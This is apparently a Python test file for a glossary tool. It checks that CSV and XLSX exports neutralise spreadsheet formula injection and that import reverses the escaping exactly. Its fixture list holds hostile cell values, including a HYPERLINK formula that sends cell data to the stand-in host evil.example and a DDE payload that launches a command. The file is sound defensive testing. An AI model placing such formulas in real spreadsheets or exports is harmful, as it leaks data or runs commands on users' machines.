"""Hostile spreadsheets and TBX files given to ``import``, and exports opened in a
spreadsheet: each case runs the real command in a child process under a memory and time
limit (``childproc.run``) and checks the exact message, the exit code and what was (not)
written."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from childproc import run

import glossary

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def concept_folder(tmp_path: Path, terms: list[str]) -> Path:
    folder = tmp_path / "g"
    folder.mkdir()
    (folder / "glossary.toml").write_text(
        '[glossary]\nid = "g"\nlanguages = ["fi", "en"]\n', "utf-8"
    )
    listed = ", ".join('"' + t.replace("\\", "\\\\").replace('"', '\\"') + '"' for t in terms)
    (folder / "a.yaml").write_text(
        'id: a\nnote: "=1+2"\nlanguages:\n'
        f"  fi:\n    definition: '@SUM(A1)'\n    terms: [{listed}]\n"
        "  en:\n    terms: [plain]\n",
        "utf-8",
    )
    return folder


# -- formulas in spreadsheets (OWASP CSV injection) ----------------------------------------

HOSTILE_TERMS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-ism",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''-two quotes",
    "'plain quote'",
    "a=b",
]


def test_csv_export_neutralises_formulas_and_import_reverses_it(tmp_path):
    folder = concept_folder(tmp_path, HOSTILE_TERMS)
    out = tmp_path / "g.csv"
    result = run("export", "csv", "--out", out, "-g", folder)
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for cell in row]
    assert cells, "empty export"
    assert [c for c in cells if c[:1] in TRIGGERS] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert {"'+1+1", "'-ism", "''=already quoted", "'''-two quotes", "'plain quote'"} <= set(cells)
    assert {"'=1+2", "'@SUM(A1)", "a=b"} <= set(cells)

    into = tmp_path / "t"
    result = run("import", out, "--into", into)
    assert result.returncode == 0, result.stderr
    before, after = glossary.load(folder), glossary.load(into)
    assert list(after.concepts.values()) == list(before.concepts.values())
    assert [t.term for t in after.concepts["a"].languages["fi"].terms] == HOSTILE_TERMS


def test_xlsx_export_writes_formulas_as_text_cells(tmp_path):
    folder = concept_folder(tmp_path, HOSTILE_TERMS)
    out = tmp_path / "g.xlsx"
    result = run("export", "xlsx", "--out", out, "-g", folder)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet

    from openpyxl import load_workbook

    cells = [c for row in load_workbook(out)["terms"].iter_rows(min_row=2) for c in row]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in TRIGGERS]
    assert {c.value for c in risky} >= {HOSTILE_TERMS[0], "+1+1", "-ism", "=1+2"}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)

    into = tmp_path / "t"
    result = run("import", out, "--into", into)
    assert result.returncode == 0, result.stderr
    assert [t.term for t in glossary.load(into).concepts["a"].languages["fi"].terms] == (
        HOSTILE_TERMS
    )


def test_the_csv_escape_is_a_bijection():
    from glossary.exporters.csv import escape_cell, unescape_cell

    samples = ["", "'", "''", "=", "'=", "''=", "x", "'x", "-", "\t-", "\r", "@'", "'@'", "a-"]
    for value in samples:
        cell = escape_cell(value)
        assert cell[:1] not in TRIGGERS
        assert unescape_cell(cell) == value, value
    assert len({escape_cell(v) for v in samples}) == len(samples)
